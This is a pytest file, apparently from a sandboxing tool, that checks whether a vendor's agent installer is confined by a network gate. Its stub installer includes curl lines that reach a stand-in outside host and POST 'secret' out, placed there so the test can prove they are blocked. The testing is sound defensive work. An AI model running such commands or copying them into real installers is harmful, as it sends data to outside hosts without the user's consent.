# SPDX-License-Identifier: Apache-2.0
"""Agents that come from their vendor: its installer runs in a sandbox, behind the gate"""
import pathlib

import pytest

from bawn import SOAK
from net_host import Host, read_head
from test_https import make_certificate

SLOW = pytest.mark.skipif(not SOAK, reason="a minute under emulation: make soak runs it")
VENDOR, AWAY = "203.0.113.20", "203.0.113.21"
INSTALLER = """#!/bin/sh
echo "installing into $HOME" >&2
mkdir -p "$HOME/.local/bin"
printf '#!/bin/sh\\necho "stub 1.2 $*"\\n' > "$HOME/.local/bin/cursor-agent"
chmod 755 "$HOME/.local/bin/cursor-agent"
curl -fsS -o /dev/null https://away.test/ && touch /usr/local/went-away
curl -fsS -X POST -d secret -o /dev/null https://vendor.test/ && touch /usr/local/went-away
true
"""
INI = """description = a stub
builder = vendor
from = base
needs = 1G
vendor = https://vendor.test/{file}
allow = GET vendor.test
install = sh "$INSTALLER" && ln -s "$HOME/.local/bin/cursor-agent" /usr/local/bin/
check = cursor-agent {check}
"""


@pytest.fixture(name="host", scope="module")
def host_of(tmp_path_factory):
    folder = tmp_path_factory.mktemp("vendor")
    one = Host(folder)
    if one.why:
        pytest.skip(f"no namespaces for a host of its own: {one.why}")
    one.write("hosts", f"127.0.0.1 localhost\n{VENDOR} vendor.test\n{AWAY} away.test\n")
    one.seen = []

    def speak(connection):
        while (head := read_head(connection)):
            one.seen.append(head.split("\r\n")[0])
            found = head.startswith("GET /install ")
            body = INSTALLER.encode() if found else b"nothing"
            connection.sendall(b"HTTP/1.1 %s\r\nContent-Length: %d\r\n\r\n%s" % (
                b"200 OK" if found else b"404 Not Found", len(body), body))
    authorities = ""
    for address, name in ((VENDOR, "vendor.test"), (AWAY, "away.test")):
        one.serve(address, 443, speak, make_certificate(folder, name))
        authorities += pathlib.Path(folder, f"{name}.crt").read_text()
    one.write("authorities", authorities)
    yield one
    one.close()


@pytest.fixture(name="kernel", scope="module")
def kernel_of(session):
    """Fetched, for the host without a way out borrows it."""
    session.rm(session.create())


@SLOW
@pytest.mark.seconds(900)
@pytest.mark.usefixtures("kernel")
def test_its_installer_makes_the_template(lone, host):
    lone.prefix = host.prefix
    folder = pathlib.Path(lone.home, "config/templates")
    folder.mkdir(parents=True)
    ini = folder / "cursor.ini"
    # What cannot be reached, and what does not run, are said in one line, and leave nothing.
    ini.write_text(INI.format(file="missing", check="--version"))
    missing = lone.raw("template", "pull", "cursor", timeout=400)
    assert missing.code == 1 and "cannot be reached (https://vendor.test/missing)" in missing.err
    assert "-t" in missing.err.splitlines()[-1]
    ini.write_text(INI.format(file="install", check="--version && false"))
    broken = lone.raw("template", "pull", "cursor", timeout=400)
    assert broken.code == 1 and "does not run" in broken.err.splitlines()[-1], broken
    assert "cursor" not in lone("template", "ls", "-q").out.split()
    assert lone.names() == []
    ini.write_text(INI.format(file="install", check="--version"))
    ran = lone("run", "--name", "curs", "cursor", ".", "--", "--version", timeout=500)
    assert "stub 1.2 --yolo --version" in ran.out, ran
    assert lone.exec("curs", "sh", "-c", "id -un; ls /usr/local /tmp").out.split()[0] == "agent"
    # Nobody but the vendor was reached, and nothing was sent there.
    assert "went-away" not in lone.exec("curs", "ls", "/usr/local").out
    assert set(host.seen) == {"GET /missing HTTP/1.1", "GET /install HTTP/1.1"}, host.seen
    shown = lone("template", "inspect", "cursor").json
    shown = shown[0] if isinstance(shown, list) else shown
    assert "vendor.test" in str(shown["source"])
    assert lone.names() == ["curs"]
